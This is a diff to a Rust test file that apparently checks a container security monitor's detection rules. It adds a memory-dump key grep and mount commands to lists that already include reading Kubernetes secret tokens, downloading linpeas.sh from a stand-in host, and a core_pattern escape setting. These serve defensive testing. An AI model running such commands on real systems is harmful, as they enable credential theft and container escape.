@@ -963,6 +963,7 @@ fn high_confidence_attack_behaviour_denies_alone() {
         ("cat /host/var/lib/kubelet/pods/*/volumes/kubernetes.io~secret/*/token", "exec-host-secret-read"),
         ("python3 -c \"import urllib.request; urllib.request.urlretrieve('https://x.example/linpeas.sh','/tmp/l')\"", "exec-toolkit-download"),
         ("sysctl -w kernel.core_pattern='|/tmp/x'", "exec-escape-artifact"),
+        ("memdump | strings | grep KEY", "exec-kernel-module"),
     ];
     let mut failures = Vec::new();
     for (command, rule) in cases {
@@ -1035,6 +1036,8 @@ fn discovery_and_probes_annotate_without_denying() {
             "exec-privilege-escalation",
         ),
         ("cat /proc/sched_debug", "exec-proc-process-read"),
+        ("mount -o remount,size=1G /dev/shm", "exec-mount"),
+        ("device=/dev/$(lsblk -i | grep part | tail -1); mount $device /mnt/h", "exec-mount"),
     ];
     let mut failures = Vec::new();
     for (command, rule) in cases {
